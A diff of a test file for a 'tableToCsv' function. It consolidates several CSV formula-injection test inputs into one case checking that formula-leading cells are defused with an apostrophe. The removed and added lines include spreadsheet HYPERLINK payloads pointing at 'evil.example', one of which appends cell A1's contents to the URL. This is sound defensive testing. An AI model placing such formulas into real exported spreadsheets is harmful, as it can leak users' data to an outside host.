@@ -11,16 +11,10 @@ describe(tableToCsv.name, () => {
     rows: names.map((name, i) => ({ name, moves: -i })),
   });
 
-  it.each([
-    '=1+1',
-    '+1',
-    '-1',
-    '@SUM(A1)',
-    '\tx',
-    '\rx',
-    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
-  ])('should defuse a name starting %j and keep numbers as numbers', (name) => {
-    const [, row] = tableToCsv(table([name])).split('\r\n');
+  // Each formula prefix is the contract's csvCell's to defuse (src/contract/csv.spec.ts); here,
+  // only that every cell of a row goes through it.
+  it('should defuse a name that starts a formula and keep numbers as numbers', () => {
+    const [, row] = tableToCsv(table(['=HYPERLINK("http://evil.example/","Open")'])).split('\r\n');
     expect(row.replace(/^"/, '').startsWith("'")).toBe(true);
     expect(row.endsWith(',0')).toBe(true);
   });
